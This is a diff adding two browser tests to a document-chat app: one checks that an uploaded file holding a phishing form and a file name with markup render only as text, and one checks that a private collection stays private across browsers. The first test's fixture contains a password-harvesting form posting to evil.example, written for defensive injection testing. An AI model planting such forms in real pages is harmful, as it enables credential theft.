@@ -84,3 +84,76 @@ def test_follow_up_question_answers_about_the_earlier_subject(page, chatbot_url,
     page.locator("#chat").get_by_text("31 March").wait_for()
     trace = page.content()
     assert "How many days of paid leave do employees get? and when do they expire?" in trace
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_a_hostile_document_and_file_name_render_as_text(page, chatbot_url, tmp_path):
+    """A phishing form in a document and markup in a file name show literally, nowhere live."""
+    name = "minutes`<b>bold`.md"
+    doc = tmp_path / name
+    form = ('<form action="https://evil.example/steal"><input type="password" name="pw">'
+            '<button>Log in</button></form>')
+    doc.write_text(f"# Minutes\n\nThe ferry leaves at 7:15 from pier four. {form}\n", encoding="utf-8")
+    page.goto(chatbot_url)
+    page.locator("#collection input").fill("hostile")
+    page.locator("#collection input").press("Enter")
+    page.locator("#upload input[type=file]").set_input_files(str(doc))
+    page.locator("#ingest").click()
+    status = page.locator("#ingest-status")
+    status.get_by_text("— added").wait_for(timeout=180_000)
+    # Gradio keeps only safe characters of an uploaded name; what is left shows as text, no <b> element
+    assert "bold.md — added" in status.inner_text() and status.locator("b").count() == 0
+    page.locator("#question textarea").fill("When does the ferry leave from pier four?")
+    page.locator("#ask").click()
+    page.locator("#sentence-sources").get_by_text("sentences supported").wait_for(timeout=400_000)
+    page.locator("#cite-pick label").last.click()  # the whole passage, form included
+    context = page.locator("#context-view")
+    context.get_by_text("Log in").first.wait_for(timeout=30_000)
+    page.screenshot(path=str(tmp_path / "hostile-document.png"), full_page=True)
+    for where in ("#context-view", "#sentence-sources", "#chat", "#ingest-status"):
+        for tag in ("form", "input[type=password]", "button:has-text('Log in')"):
+            assert page.locator(f"{where} {tag}").count() == 0, (where, tag)
+    assert '<input type="password"' in context.inner_text()  # shown, as text
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_hosted_private_collection_comes_back_after_a_reload_and_not_elsewhere(browser, data_dir, monkeypatch,
+                                                                               tmp_path):
+    from apps.chatbot.app import build_app
+    from core.caches import reset_all
+    from core.config import reset_settings
+
+    monkeypatch.setenv("GENAI_HOSTED", "true")
+    reset_settings()
+    reset_all()
+    demo = build_app().queue()
+    port = free_port(8500, 8600)
+    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
+    url = f"http://127.0.0.1:{port}"
+    doc = tmp_path / "recipes.md"
+    doc.write_text("# Recipes\n\nThe pancake batter rests for twenty minutes.\n", encoding="utf-8")
+    try:
+        mine = browser.new_context()
+        page = mine.new_page()
+        page.goto(url)
+        page.wait_for_function("localStorage.getItem('genai-visitor') !== null")  # the browser's secret id
+        page.locator("#collection input").fill("kitchen")
+        page.locator("#collection input").press("Enter")
+        page.locator("#upload input[type=file]").set_input_files(str(doc))
+        page.locator("#ingest").click()
+        page.locator("#ingest-status").get_by_text("recipes.md — added").wait_for(timeout=180_000)
+        page.reload()
+        page.locator("#collection input").click()
+        page.get_by_role("option", name="kitchen (private)").wait_for(timeout=30_000)
+        page.screenshot(path=str(tmp_path / "hosted-private.png"), full_page=True)
+        # another browser (its own local storage) does not see it
+        other = browser.new_context().new_page()
+        other.goto(url)
+        other.locator("#collection input").click()
+        other.get_by_role("option", name="sample (shared)").wait_for(timeout=30_000)
+        assert other.get_by_role("option", name="kitchen (private)").count() == 0
+    finally:
+        demo.close()
+        reset_all()
